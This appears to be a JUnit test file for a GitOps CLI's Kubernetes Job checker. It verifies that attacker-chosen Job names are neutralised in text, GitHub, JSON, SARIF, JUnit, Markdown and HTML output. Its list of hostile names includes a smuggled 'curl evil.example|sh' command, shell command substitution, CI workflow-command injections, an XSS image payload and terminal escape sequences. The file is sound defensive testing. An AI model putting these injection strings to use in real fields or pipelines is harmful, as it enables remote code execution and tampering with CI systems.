package dev.gitopsinterlock.cli;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.ObjectMapper;
import dev.gitopsinterlock.admission.ObjectName;
import dev.gitopsinterlock.check.ObjectId;
import dev.gitopsinterlock.check.ScannedObject;
import dev.gitopsinterlock.check.ScannedObject.Advice;
import dev.gitopsinterlock.check.ScannedObject.Refusal;
import dev.gitopsinterlock.cli.doctor.DoctorFormat;
import dev.gitopsinterlock.cli.report.Format;
import dev.gitopsinterlock.cli.scan.ScanFormat;
import dev.gitopsinterlock.cli.scan.ScanReport;
import dev.gitopsinterlock.cli.status.StatusFormat;
import dev.gitopsinterlock.config.PackagedPages;
import dev.gitopsinterlock.doctor.Check;
import dev.gitopsinterlock.doctor.Diagnosis;
import dev.gitopsinterlock.status.Blocked;
import dev.gitopsinterlock.status.EditOutcome;
import dev.gitopsinterlock.status.ForgottenSync;
import dev.gitopsinterlock.status.NamespacePolicy;
import dev.gitopsinterlock.status.QuotedDenial;
import dev.gitopsinterlock.status.RecentEdit;
import dev.gitopsinterlock.status.Status;
import dev.gitopsinterlock.tool.Tool;
import java.io.IOException;
import java.io.PrintWriter;
import java.io.StringReader;
import java.io.StringWriter;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Collections;
import java.util.List;
import java.util.Optional;
import java.util.TreeMap;
import java.util.function.Consumer;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import javax.xml.parsers.DocumentBuilderFactory;
import org.commonmark.ext.gfm.tables.TableRow;
import org.commonmark.ext.gfm.tables.TablesExtension;
import org.commonmark.node.AbstractVisitor;
import org.commonmark.node.CustomNode;
import org.commonmark.node.Heading;
import org.commonmark.node.HtmlBlock;
import org.commonmark.node.HtmlInline;
import org.commonmark.node.Image;
import org.commonmark.node.Link;
import org.commonmark.node.Text;
import org.commonmark.parser.Parser;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.w3c.dom.Document;
import org.xml.sax.InputSource;

/** Whoever opens a pull request names Jobs and files. What reads the output, a CI service or a shell, must not obey them. */
class HostileNamesTest {

    private static final List<String> NAMES = List.of(
            "a; curl evil.example|sh #",
            "$(id)`id`",
            "--kubeconfig=evil",
            "a\n::error title=evil::b",
            "a\r::error title=evil::b",
            "a\n \u00a0::add-mask::b",
            "::error title=evil::b",
            " ::error title=evil::b",
            "%0A::error title=evil::b",
            "a\n##[error]evil",
            "a##[error]evil",
            "##vso[task.setvariable variable=evil]b",
            "##teamcity[buildStop]",
            "a\n# Evil\n\n@admins",
            "@admins #1 www.evil.example",
            "https://evil.example",
            "[a](https://evil.example)![b](https://evil.example)",
            "a|b\\|c`d",
            "`@admins` <img src=x onerror=alert(1)>",
            "&#64;admins",
            "\"/></testcase>]]>&evil;",
            "a\u001b[2J\u001b]0;evil\u0007",
            "a\u0000\b\t\u007f\u0085\u009b",
            "a\u202eb\u200b\u2028c\u2029d",
            "a\ud800b\ufffec");

    private static final ObjectMapper JSON = new ObjectMapper();
    private static final Instant NOW = Instant.parse("2026-11-21T12:00:00Z");

    static Stream<Arguments> reports() {
        return NAMES.stream().flatMap(name -> Arrays.stream(Format.values()).map(format -> Arguments.of(name, format)));
    }

    @ParameterizedTest
    @MethodSource
    void reports(String name, Format format, @TempDir Path directory) throws Exception {
        var file = file(directory, name);
        var run = Run.in(directory, "check", "old", "new", "-o", format.toString());

        assertThat(run.code()).isEqualTo(ExitCode.FINDINGS);
        var own = format == Format.GITHUB ? run.out().lines().toList().getFirst() : "";
        assertThat(own).startsWith(format == Format.GITHUB ? "::error file=new/" : "");
        assertObeyedByNobody(
                run.out().substring(own.length()).replace("::notice::Some manifests do not show", "") + run.errors());
        switch (format) {
            case JSON -> {
                var finding = JSON.readTree(run.out()).path("findings").path(0);
                assertThat(finding.at("/object/name").asText()).isEqualTo(name);
                assertThat(finding.at("/place/file").asText()).isEqualTo("new/" + file);
                assertThat(finding.path("remedy").asText())
                        .doesNotContain(name)
                        .contains("kubectl -n <namespace> delete job <name>");
            }
            case SARIF -> {
                var text = JSON.readTree(run.out())
                        .at("/runs/0/results/0/message/text")
                        .asText();
                assertThat(text).contains("will refuse").doesNotContain("](");
                assertThat(JSON.readTree(run.out()).findValue("uri").asText())
                        .matches("new/[A-Za-z0-9%._~!$&'()*+,;=@-]+");
            }
            case JUNIT ->
                assertThat(xml(run.out()).getElementsByTagName("*").getLength()).isEqualTo(5);
            case MARKDOWN -> assertOneTableOfWords(run.out());
            case TEXT, GITHUB -> assertThat(run.out().lines()).hasSize(format == Format.TEXT ? 8 : 3);
        }
    }

    @ParameterizedTest
    @EnumSource
    void ofFilesThatAreLeftOut(Format format, @TempDir Path directory) throws IOException {
        for (var name : NAMES) {
            Files.writeString(file(directory, name, "new", ".json"), "kind: Job\n  {{ x }}: [\n");
        }
        var run = Run.in(directory, "check", "new", "new", "-o", format.toString());

        assertThat(run.code()).isEqualTo(ExitCode.NOTHING_FOUND);
        assertObeyedByNobody(run.out() + run.errors());
        if (format == Format.MARKDOWN) {
            assertThat(run.out().lines()).hasSize(1);
        }
    }

    static List<String> names() {
        return NAMES;
    }

    @ParameterizedTest
    @MethodSource("names")
    void whatIsFixed(String name, @TempDir Path directory) throws IOException {
        file(directory, name);
        var run = Run.in(directory, "check", "old", "new", "--fix", "--tool", "argocd");

        assertThat(run.out()).contains("+    argocd.argoproj.io/sync-options: Force=true", "nothing found");
        assertObeyedByNobody(run.out() + run.errors());
    }

    /** Whoever accepts one finding must not accept another one with it. */
    @ParameterizedTest
    @MethodSource("names")
    void aBaselineHasOneLineForAFinding(String name, @TempDir Path directory) throws IOException {
        file(directory, name);
        var baseline = directory.resolve("baseline.txt");
        Run.in(directory, "check", "old", "new", "--write-baseline", baseline.toString());

        assertThat(Files.readString(baseline))
                .satisfies(HostileNamesTest::assertObeyedByNobody)
                .hasLineCount(2);
        assertThat(Run.in(directory, "check", "old", "new", "--baseline", baseline.toString())
                        .code())
                .isEqualTo(ExitCode.NOTHING_FOUND);
    }

    @ParameterizedTest
    @MethodSource("names")
    void whatCannotBeRead(String name, @TempDir Path directory) throws IOException {
        var file = file(directory, name);
        Files.writeString(directory.resolve("new").resolve(file), "kind: Job\nmetadata: [\n");

        assertObeyedByNobody(Run.in(directory, "check", "old", "new").errors());
        assertObeyedByNobody(Run.in(directory, "check", "old", name).errors());
        assertObeyedByNobody(Run.in(directory, "explain", name).errors());
    }

    @ParameterizedTest
    @EnumSource
    void scans(ScanFormat format) throws IOException {
        for (var name : NAMES) {
            var job = new ScannedObject(
                    new ObjectId("batch", "Job", name, name),
                    name,
                    Tool.UNKNOWN,
                    Optional.of(new Refusal(name, name, name)),
                    List.of(new Advice(name, name)));
            var text = written(out -> format.write(
                    new ScanReport(List.of(job), new TreeMap<>(Collections.singletonMap(name, 1)), NOW, "1"), out));

            assertObeyedByNobody(text);
            if (format == ScanFormat.HTML) {
                assertThat(text).doesNotContain("<img");
            } else if (format != ScanFormat.TEXT) {
                assertThat(JSON.readTree(text).findValuesAsText("namespace")).contains(name);
            }
        }
    }

    @ParameterizedTest
    @EnumSource
    void statuses(StatusFormat format) {
        for (var name : NAMES) {
            var object = new ObjectName(name, name);
            var status = new Status(
                    NOW,
                    List.of(new Blocked(
                            name, object, List.of(new QuotedDenial("JobEdit", "Job", object, List.of(name))))),
                    List.of(new ForgottenSync(object, NOW)),
                    List.of(),
                    List.of(),
                    List.of(RecentEdit.seen(NOW, 1, EditOutcome.REFUSED, name, object, name, name, name)),
                    Optional.empty(),
                    List.of(new NamespacePolicy(name, Optional.empty(), false, List.of(name))),
                    List.of(name),
                    List.of(name));
            var pages = PackagedPages.withoutAddress();
            var text = written(out -> format.write(status, pages, false, out));

            assertObeyedByNobody(text);
            assertThat(text).contains("kubectl -n <namespace> delete job <name>");
        }
    }

    @ParameterizedTest
    @EnumSource
    void diagnoses(DoctorFormat format) {
        for (var name : NAMES) {
            assertObeyedByNobody(written(out -> format.write(
                    List.of(Diagnosis.notChecked(Check.CANARY, name).and(name, name)), out)));
        }
    }

    @Test
    void aLineOfTheManifestKeepsItsCaret(@TempDir Path directory) throws IOException {
        for (var side : List.of("old", "new")) {
            Files.writeString(directory.resolve(side + ".json"), """
                    {"kind": "Job", "apiVersion": "batch/v1", "metadata": {"name": "a"}, "spec": {"template": {"spec": {"containers": [
                    \t{"name": "\u202e", "image": "%s"}]}}}}
                    """.formatted(side));
        }

        assertThat(Run.in(directory, "check", "old.json", "new.json").out()).contains("""
                  2 |  {"name": "\\u202e", "image": "new"}]}}}}
                    |                     ^
                """);
    }

    /** A Job whose image changes, in a file of the same name. */
    private static Path file(Path directory, String name) throws IOException {
        for (var side : List.of("old", "new")) {
            var text = """
                    # ::error title=evil::b
                    apiVersion: batch/v1
                    kind: Job
                    metadata:
                      ::error title=evil::b: c
                      name: %s
                      namespace: %s
                    spec:
                      template: {spec: {containers: [{image: "%s##[error]evil"}]}}
                    """.formatted(quoted(name), quoted(name), side);
            Files.writeString(file(directory, name, side, ".yaml"), text);
        }
        return file(directory, name, "new", ".yaml").getFileName();
    }

    private static String quoted(String name) {
        return name.chars().mapToObj("\\u%04x"::formatted).collect(Collectors.joining("", "\"", "\""));
    }

    /** Where no file can have that name, of one that is as near as possible. */
    private static Path file(Path directory, String name, String side, String suffix) throws IOException {
        return Files.createDirectories(directory.resolve(side))
                .resolve(name.replaceAll("[/\\\\\0\\p{Cs}]", "_") + suffix);
    }

    private static String written(Consumer<PrintWriter> format) {
        var text = new StringWriter();
        format.accept(new PrintWriter(text));
        return text.toString();
    }

    /** GitHub reads {@code ::} behind white space, and {@code ##[} anywhere; others have a word before the bracket. */
    private static void assertObeyedByNobody(String output) {
        assertThat(output).doesNotContainPattern("(?m)^[\\s\\p{Z}]*::").doesNotContainPattern("##\\w*\\[");
        assertThat(output.replace("\n", "")).doesNotContainPattern("[\\p{C}\\p{Zl}\\p{Zp}]");
    }

    private static Document xml(String text) throws Exception {
        return DocumentBuilderFactory.newInstance().newDocumentBuilder().parse(new InputSource(new StringReader(text)));
    }

    private static void assertOneTableOfWords(String markdown) {
        var seen = new ArrayList<String>();
        Parser.builder()
                .extensions(List.of(TablesExtension.create()))
                .build()
                .parse(markdown)
                .accept(new AbstractVisitor() {
                    @Override
                    public void visit(CustomNode node) {
                        if (node instanceof TableRow) {
                            seen.add("row");
                        }
                        visitChildren(node);
                    }

                    @Override
                    public void visit(Heading heading) {
                        seen.add("heading");
                        visitChildren(heading);
                    }

                    @Override
                    public void visit(Link link) {
                        seen.add("link");
                    }

                    @Override
                    public void visit(Image image) {
                        seen.add("image");
                    }

                    @Override
                    public void visit(HtmlInline html) {
                        seen.add("html");
                    }

                    @Override
                    public void visit(HtmlBlock html) {
                        seen.add("html");
                    }

                    // GitHub makes more of these, outside of code
                    @Override
                    public void visit(Text text) {
                        assertThat(text.getLiteral()).doesNotContainPattern("[@#]\\w|://|www\\.");
                    }
                });
        assertThat(seen).containsExactly("heading", "row", "row");
    }
}
